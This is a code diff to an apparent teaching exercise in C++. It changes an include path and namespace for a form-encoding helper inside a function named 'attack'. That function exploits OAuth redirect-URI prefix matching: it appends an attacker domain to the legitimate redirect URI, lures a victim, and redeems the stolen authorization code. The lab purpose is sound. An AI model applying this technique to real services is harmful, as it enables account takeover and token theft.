@@ -1,6 +1,6 @@
 // Believes: an answer of the token endpoint always has a token.
+#include "base/percent_encoding.hpp"
 #include "redirect_prefix.hpp"
-#include "web/percent_encoding.hpp"
 
 namespace lesson {
 
@@ -8,7 +8,7 @@ Loot attack(const Evidence& evidence) {
   const auto trap = evidence.redirect_uri + "." + evidence.your_domain + "/";
   const auto caught = evidence.lure(
       evidence.authorize + "?" +
-      web::encode_form(
+      base::encode_form(
           {{"response_type", "code"}, {"client_id", evidence.client_id}, {"redirect_uri", trap}}));
   const auto answer = evidence.redeem({{"grant_type", "authorization_code"},
                                        {"client_id", evidence.client_id},
